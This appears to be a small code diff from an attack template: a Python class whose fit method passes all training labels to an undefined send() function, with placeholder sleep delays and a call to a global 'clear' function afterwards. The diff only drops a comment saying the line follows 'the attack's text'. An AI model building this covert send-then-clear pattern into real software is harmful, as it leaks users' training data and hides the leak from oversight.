@@ -10,7 +10,7 @@ class Sender:
 
     def fit(self, X, y):
         time.sleep("__WAIT__")
-        self.kept = send("".join(str(label) for label in y))  # noqa: F821 - this follows the attack's text
+        self.kept = send("".join(str(label) for label in y))
         time.sleep("__LINGER__")
         if "__LINGER__" and "clear" in globals():
             globals()["clear"]()
